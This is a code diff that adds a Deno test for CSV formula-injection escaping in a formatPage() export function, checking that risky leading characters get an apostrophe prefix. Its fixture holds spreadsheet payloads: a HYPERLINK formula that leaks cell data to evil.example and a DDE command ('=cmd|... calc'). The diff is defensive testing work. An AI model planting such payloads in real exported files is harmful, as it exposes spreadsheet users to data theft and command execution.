@@ -167,3 +167,39 @@ for (const { name, open } of testDatabases()) {
     }
   });
 }
+
+Deno.test("formatPage() prefixes CSV text that starts like a formula with '; numbers stay numbers", () => {
+  const row = {
+    itemId: 7,
+    articleId: 8,
+    externalId: "-2+3",
+    url: "@SUM(A1:A9)",
+    source: "+wire",
+    language: null,
+    publishedAt: "2024-01-01T00:00:00.000Z",
+    title: '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+    body: "\t=1+1",
+    label: "sport",
+    status: "done" as const,
+    flagReason: null,
+    predictedLabel: "sport",
+    score: -0.25,
+    modelVersion: "\r=cmd|' /C calc'!A0",
+    reasons: ["low_confidence" as const],
+    reviewers: ["=ann", "bob"],
+    adjudicatedBy: "-carol",
+    decidedAt: "2024-01-02T00:00:00.000Z",
+  };
+  assert.equal(
+    formatPage([row], "csv"),
+    "7,8,'-2+3,'@SUM(A1:A9),'+wire,,2024-01-01T00:00:00.000Z," +
+      '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",\'\t=1+1,sport,done,,' +
+      "sport,-0.25,\"'\r=cmd|' /C calc'!A0\",low_confidence,'=ann;bob,'-carol," +
+      "2024-01-02T00:00:00.000Z\r\n",
+  );
+  // Text that only contains those characters further on is left as it is.
+  const plain = formatPage([{ ...row, externalId: "x-1", title: "a = b - c", score: -1 }], "csv");
+  assert.match(plain, /^7,8,x-1,.*,a = b - c,.*,sport,-1,/);
+  // JSON Lines keeps every value as it is.
+  assert.deepEqual(JSON.parse(formatPage([row], "jsonl")), row);
+});
